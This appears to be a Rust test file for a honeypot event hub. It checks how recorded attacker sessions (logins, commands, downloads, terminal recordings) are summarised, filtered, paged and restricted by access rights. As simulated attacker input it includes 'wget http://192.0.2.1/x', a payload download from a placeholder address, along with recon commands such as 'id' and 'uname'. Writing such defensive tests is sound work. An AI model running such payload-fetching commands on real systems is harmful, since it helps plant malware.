//! Sessions of attackers and their recordings, found in the events.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "test code")]

use crate::common;

use common::{deliver, encoded, key, local, now, settled};
use palisade_event::{
    AttributeValue, Credentials, Domain, Endpoint, Event, EventId, EventKind, Outcome, SensorId,
    SessionId, Timestamp, Untrusted,
};
use palisade_hub::{AttackSession, Hub, Principal, Scope};
use palisade_store::query::{Cursor, Query};

/// Makes events of sessions, a second after each other unless told.
struct Maker {
    at: Timestamp,
    number: u128,
    events: Vec<Event>,
}

impl Maker {
    fn new() -> Self {
        Self { at: now().plus_millis(-3_600_000), number: 1, events: Vec::new() }
    }

    fn add(&mut self, session: &str, kind: EventKind) -> &mut Event {
        self.at = self.at.plus_millis(1_000);
        self.same_instant(session, kind)
    }

    fn same_instant(&mut self, session: &str, kind: EventKind) -> &mut Event {
        self.number += 1;
        let sensor = SensorId::new("unit").unwrap();
        let mut event = Event::new(EventId::new(self.at, self.number), kind, self.at, sensor);
        event.session = Some(SessionId::new(session).unwrap());
        event.source = Some(Endpoint::address("8.8.8.8".parse().unwrap()));
        self.events.push(event);
        self.events.last_mut().unwrap()
    }

    fn login(&mut self, session: &str, user: &str, outcome: Outcome) {
        self.add(session, EventKind::AuthAttempted).credentials = Some(Credentials {
            username: Some(user.into()),
            password: Some("x".into()),
            outcome: Some(outcome),
        });
    }

    fn command(&mut self, session: &str, line: &str) {
        self.add(session, EventKind::CommandEntered).request = Some(line.into());
    }

    fn part(&mut self, session: &str, number: i64, lines: &str) {
        let started = self.at.as_millis() - 500;
        let event = self.add(session, EventKind::SessionRecorded);
        for (name, value) in [("part", number), ("started_ms", started), ("width", 90)] {
            event.attributes.insert(name.into(), AttributeValue::Integer(value));
        }
        event.attributes.insert("asciicast".into(), Untrusted::from(lines).into());
    }

    fn close(&mut self, session: &str, millis: i64) {
        let event = self.add(session, EventKind::SessionClosed);
        event.attributes.insert("duration_ms".into(), AttributeValue::Integer(millis));
        event.attributes.insert("reason".into(), "idle".into());
    }
}

async fn list(
    hub: &Hub,
    who: &Principal,
    q: &str,
    limit: usize,
    after: Option<Cursor>,
) -> (Vec<AttackSession>, Option<Cursor>) {
    let query = Query::parse(q, now()).unwrap();
    let page = hub.attack_sessions(who, query, limit, after).await.unwrap();
    (page.sessions, page.next)
}

fn names(sessions: &[AttackSession]) -> Vec<&str> {
    sessions.iter().map(|session| session.id.as_str()).collect()
}

#[tokio::test]
async fn sessions_are_summed_up_filtered_and_shown() {
    let dir = tempfile::tempdir().unwrap();
    let hub = common::open(dir.path()).await;
    let mut maker = Maker::new();
    // One that does all, one that fails, one that lasts, one of a log's.
    maker.add("rich", EventKind::ConnectionOpened);
    maker.login("rich", "admin", Outcome::Failed);
    maker.login("rich", "root", Outcome::Accepted);
    maker.command("rich", "wget http://192.0.2.1/x");
    maker.add("rich", EventKind::DownloadAttempted).request = Some("http://192.0.2.1/x".into());
    maker.add("rich", EventKind::PayloadCaptured);
    maker.part("rich", 0, "[0.0,\"o\",\"~ # \"]\n");
    maker.part("rich", 1, "[1.0,\"o\",\"bye\"]\n");
    maker.close("rich", 8_000);
    maker.add("poor", EventKind::ConnectionOpened);
    maker.login("poor", "root", Outcome::Failed);
    maker.login("poor", "root", Outcome::Failed);
    maker.close("poor", 3_000);
    maker.add("open", EventKind::ConnectionOpened);
    maker.login("open", "pi", Outcome::Accepted);
    maker.command("open", "id");
    maker.login("log", "git", Outcome::Failed);
    let mut none = maker.events[0].clone();
    none.id = EventId::new(now(), 99);
    none.session = None;
    maker.events.push(none);
    let sender = key(&hub, "unit", &[Scope::Ingest], Domain::Private).await;
    deliver(&hub, &sender, &encoded(&maker.events)).await;
    settled(&hub, maker.events.len()).await;

    let (all, next) = list(&hub, &local(), "", 50, None).await;
    assert_eq!((names(&all), next), (vec!["log", "open", "poor", "rich"], None));
    let rich = &all[3];
    assert_eq!((rich.logins_failed, rich.logins_accepted), (1, 1));
    assert_eq!((rich.commands, rich.downloads, rich.payloads), (1, 1, 1));
    assert_eq!((rich.recorded, rich.user.clone()), (true, Some("root".into())));
    assert_eq!((rich.duration_ms, rich.reason.clone()), (Some(8_000), Some("idle".into())));
    assert_eq!(rich.started_at, Some(maker.events[0].observed_at));
    let open = &all[1];
    assert_eq!((open.commands, open.reason.clone(), open.duration_ms), (1, None, None));
    assert_eq!(open.started_at, Some(maker.events[13].observed_at));
    assert_eq!((all[0].logins_failed, all[0].started_at, all[0].recorded), (1, None, false));

    for (q, found) in [
        ("kind:session.recorded", vec!["rich"]),
        ("kind:command.entered", vec!["open", "rich"]),
        ("outcome:accepted", vec!["open", "rich"]),
        ("wget", vec!["rich"]),
        ("user:git", vec!["log"]),
        ("user:nobody", vec![]),
        ("until:2020-01-01", vec![]),
    ] {
        let (sessions, _) = list(&hub, &local(), q, 50, None).await;
        assert_eq!(names(&sessions), found, "{q}");
    }
    // Whichever event was found, the whole is summed up.
    let (sessions, _) = list(&hub, &local(), "kind:download.attempted", 50, None).await;
    assert_eq!(&sessions[..1], &all[3..]);

    let id = SessionId::new("rich").unwrap();
    let shown = hub.attack_session(&local(), &id, None, 500, None).await.unwrap().unwrap();
    assert_eq!(&shown.session, rich);
    let kinds: Vec<&str> = shown.events.iter().map(|event| event.kind.as_str()).collect();
    assert_eq!(kinds.len(), 7, "in order and without parts: {kinds:?}");
    assert_eq!((kinds[0], kinds[6]), ("connection.opened", "session.closed"));
    let last = hub.attack_session(&local(), &id, None, 2, None).await.unwrap().unwrap();
    assert_eq!((last.events.len(), last.events[1].kind), (2, EventKind::SessionClosed));
    let before = hub.attack_session(&local(), &id, None, 500, last.next).await.unwrap().unwrap();
    assert_eq!(before.events.len(), 5);

    let recording = hub.recording(&local(), &id, None).await.unwrap().unwrap();
    assert_eq!((recording.size, recording.length_ms, recording.complete), ((90, 24), 1_000, false));
    assert!(recording.asciicast().ends_with("}\n[0.0,\"o\",\"~ # \"]\n[1.0,\"o\",\"bye\"]\n"));
    for (id, sensor) in [("nobody", None), ("rich", Some("other"))] {
        let (id, sensor) = (SessionId::new(id).unwrap(), sensor.map(|s| SensorId::new(s).unwrap()));
        let sensor = sensor.as_ref();
        assert!(hub.attack_session(&local(), &id, sensor, 9, None).await.unwrap().is_none());
        assert!(hub.recording(&local(), &id, sensor).await.unwrap().is_none());
    }
    assert!(
        hub.recording(&local(), &SessionId::new("poor").unwrap(), None).await.unwrap().is_none()
    );
    hub.close().await;
}

#[tokio::test]
async fn pages_list_each_session_once_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let hub = common::open(dir.path()).await;
    let mut maker = Maker::new();
    // Interleaved, so that every page but the last ends amid events of sessions
    // that are listed; some at the same instant.
    for round in 0..6 {
        for session in 0..23 {
            let name = format!("s{session:02}");
            match (round + session) % 3 {
                0 => maker.same_instant(&name, EventKind::CommandEntered),
                1 => maker.same_instant(&name, EventKind::AuthAttempted),
                _ => maker.add(&name, EventKind::CommandEntered),
            };
        }
    }
    // One with more events than a step of the walk.
    for _ in 0..1_000 {
        maker.add("long", EventKind::CommandEntered);
    }
    let sender = key(&hub, "unit", &[Scope::Ingest], Domain::Private).await;
    deliver(&hub, &sender, &encoded(&maker.events)).await;
    settled(&hub, 1_000).await;
    for (q, kind) in [("", None), ("kind:command.entered", Some(EventKind::CommandEntered))] {
        // By definition: by the newest matching event.
        let mut expected: Vec<&str> = Vec::new();
        let mut sorted: Vec<&Event> = maker
            .events
            .iter()
            .filter(|event| kind.is_none_or(|kind| kind == event.kind))
            .collect();
        sorted.sort_by_key(|event| std::cmp::Reverse((event.observed_at, event.id)));
        for event in sorted {
            let name = event.session.as_ref().unwrap().as_str();
            if !expected.contains(&name) {
                expected.push(name);
            }
        }
        for limit in [1, 4, 7, 50] {
            let (mut found, mut after): (Vec<String>, _) = (Vec::new(), None);
            for _ in 0..200 {
                let (sessions, next) = list(&hub, &local(), q, limit, after).await;
                found.extend(names(&sessions).into_iter().map(str::to_owned));
                after = next;
                if after.is_none() {
                    break;
                }
            }
            assert_eq!(found, expected, "{q} by {limit}");
        }
    }
    hub.close().await;
}

#[tokio::test]
async fn who_may_not_see_events_does_not_see_their_sessions() {
    let dir = tempfile::tempdir().unwrap();
    let hub = common::open(dir.path()).await;
    let mut maker = Maker::new();
    maker.command("shared", "id");
    maker.part("shared", 0, "[0.0,\"o\",\"a\"]\n");
    let private = key(&hub, "private-1", &[Scope::Ingest], Domain::Private).await;
    deliver(&hub, &private, &encoded(&maker.events)).await;
    // Another sensor with the same id.
    let mut other = Maker::new();
    other.number = 1_000;
    other.command("shared", "uname");
    let community = key(&hub, "community-1", &[Scope::Ingest], Domain::Community).await;
    deliver(&hub, &community, &encoded(&other.events)).await;
    settled(&hub, 3).await;

    let (all, _) = list(&hub, &local(), "", 50, None).await;
    let mut sensors: Vec<&str> = all.iter().map(|session| session.sensor.as_str()).collect();
    sensors.sort_unstable();
    assert_eq!(sensors, ["community-1", "private-1"], "an id means nothing without its sensor");
    assert!(all.iter().all(|session| session.commands == 1));

    let id = SessionId::new("shared").unwrap();
    let reader = key(&hub, "reader", &[Scope::Read], Domain::Community).await;
    let (seen, _) = list(&hub, &reader, "", 50, None).await;
    assert_eq!((seen.len(), seen[0].sensor.as_str(), seen[0].recorded), (1, "community-1", false));
    assert!(hub.recording(&reader, &id, None).await.unwrap().is_none());
    let sensor = SensorId::new("private-1").unwrap();
    assert!(hub.attack_session(&reader, &id, Some(&sensor), 9, None).await.unwrap().is_none());
    assert!(hub.recording(&local(), &id, Some(&sensor)).await.unwrap().is_some());
    let query = Query::parse("", now()).unwrap();
    assert!(hub.attack_sessions(&private, query, 9, None).await.is_err(), "who may not read");
    hub.close().await;
}
